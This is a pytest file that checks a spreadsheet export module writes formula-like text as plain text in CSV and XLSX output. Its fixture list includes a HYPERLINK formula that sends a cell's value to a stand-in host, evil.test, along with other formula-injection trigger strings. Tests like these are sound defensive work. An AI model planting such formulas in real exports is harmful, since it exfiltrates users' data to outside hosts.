"""Exports keep people's text as text: no cell of a CSV or XLSX export is a formula."""

from __future__ import annotations

import csv
import io
import zipfile
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from clusterdesk.core.exports import write_table

HYPERLINK = '=HYPERLINK("http://evil.test/?x="&A1,"click")'
DANGEROUS = [HYPERLINK, "+33 4 72 00 00 00", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1"]


def _xlsx_rows(content: bytes) -> list[list[object]]:
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value
    return [list(r) for r in sheet.iter_rows(values_only=True)]


def test_xlsx_export_writes_formula_like_text_as_text() -> None:
    content = write_table("xlsx", ["Name", "=header"], [[v, "ok"] for v in DANGEROUS])
    rows = _xlsx_rows(content)
    assert rows[0] == ["Name", "=header"]
    # The text is intact (a plain XML parser reads a carriage return back as a line feed;
    # with lxml installed, openpyxl keeps it).
    got = [r[0] for r in rows[1:]]
    assert got in ([v.replace("\r", "\n") for v in DANGEROUS], list(DANGEROUS))
    # No formula element anywhere in the sheet's XML: Excel would evaluate it.
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml


def test_xlsx_export_keeps_numbers_as_numbers() -> None:
    rows = _xlsx_rows(write_table("xlsx", ["n"], [[-5], [Decimal("-1.5")], [3.25]]))
    assert [r[0] for r in rows[1:]] == [-5, -1.5, 3.25]


def test_csv_export_prefixes_formula_like_text_with_a_quote() -> None:
    content = write_table("csv", ["Name", "Amount"], [[v, -5] for v in DANGEROUS])
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert [r[0] for r in rows[1:]] == ["'" + v for v in DANGEROUS]
    # A negative number is a number, not text to neutralise.
    assert {r[1] for r in rows[1:]} == {"-5"}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_leaves_ordinary_text_unchanged(fmt: str) -> None:
    content = write_table(fmt, ["Name"], [["Vetopharm"], ["a=b"], ["Lyon - Est"]])
    if fmt == "csv":
        cells = [r[0] for r in csv.reader(io.StringIO(content.decode("utf-8-sig")))]
    else:
        cells = [r[0] for r in _xlsx_rows(content)]
    assert cells == ["Name", "Vetopharm", "a=b", "Lyon - Est"]
